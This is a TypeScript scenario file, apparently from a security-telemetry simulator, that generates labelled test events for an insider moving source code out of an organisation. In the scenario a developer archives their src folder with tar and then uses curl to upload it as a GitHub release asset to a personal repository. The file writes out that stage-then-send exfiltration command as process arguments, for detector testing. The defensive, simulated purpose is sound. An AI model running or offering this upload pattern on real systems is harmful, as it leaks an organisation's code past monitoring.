/** An archive goes out as the file of a release, past the repository's history. */
import { SECOND } from "../clock.ts";
import { createFile, homeOf, session, startProcess } from "../sensors/endpoint.ts";
import { overTls } from "../sensors/network.ts";
import { server } from "../servers.ts";
import { at, castPerson } from "../world.ts";
import type { Story } from "./index.ts";

export const sideChannelUpload: Story = {
  id: "side-channel-upload",
  title: "Archive uploaded as a release file of a personal repository",
  behaviours: ["side-channel-upload", "stage-then-send"],
  shows: {
    url: ["side-channel-upload"],
    "sni+flow": ["volume-anomaly"],
    endpoint: ["side-channel-upload", "stage-then-send"],
  },
  demoDay: null,
  days: 1,
  tell(world, day, random) {
    const person = castPerson(
      world,
      random,
      (candidate) => candidate.developer,
      (candidate) => candidate.workstation.egress === "inspected",
    );
    const host = person.workstation;
    const windows = host.os === "windows";
    const home = homeOf(host, person.account);
    const owner = `${person.account.name}-lab`;
    const release = random.int(210_000_000, 219_999_999);
    const archive = windows ? `${home}src\\b.zip` : `${home}/src/b.tgz`;
    const bytes = random.int(88_000_000, 140_000_000);
    const time = at(world, day, 17.9);
    const shell = session(host, person.account, random, windows ? "C:\\Windows\\System32\\cmd.exe" : undefined);
    const pack = startProcess(world, {
      time,
      parent: shell,
      image: windows ? "C:\\Windows\\System32\\tar.exe" : "/usr/bin/tar",
      argv: windows ? ["tar.exe", "-a", "-cf", archive, "src"] : ["tar", "-czf", archive, "src"],
      cwd: home,
      random,
    });
    createFile(world, time + 6 * SECOND, pack, archive);
    const url = `https://uploads.github.com/repos/${owner}/tools/releases/${release}/assets?name=b.bin`;
    const curl = startProcess(world, {
      time: time + 40 * SECOND,
      parent: shell,
      image: windows ? "C:\\Windows\\System32\\curl.exe" : "/usr/bin/curl",
      argv: [
        windows ? "curl.exe" : "curl",
        "-H",
        "Content-Type: application/octet-stream",
        "--data-binary",
        `@${archive}`,
        url,
      ],
      random,
    });
    overTls(world, {
      time: time + 40_100,
      host,
      user: person.account.name,
      process: curl,
      server: server("uploads.github.com"),
      requests: [
        {
          method: "POST",
          path: url.slice("https://uploads.github.com".length),
          status: 201,
          sent: bytes,
          received: 1_600,
          type: "application/json",
        },
      ],
      userAgent: "curl/8.12.1",
      random,
    });
    return {
      actor: [person.email, person.account.name],
      hosts: [host.name],
      addresses: [host.ip],
      destinations: [`github.com/${owner}/tools`],
      bytesOut: bytes,
    };
  },
};
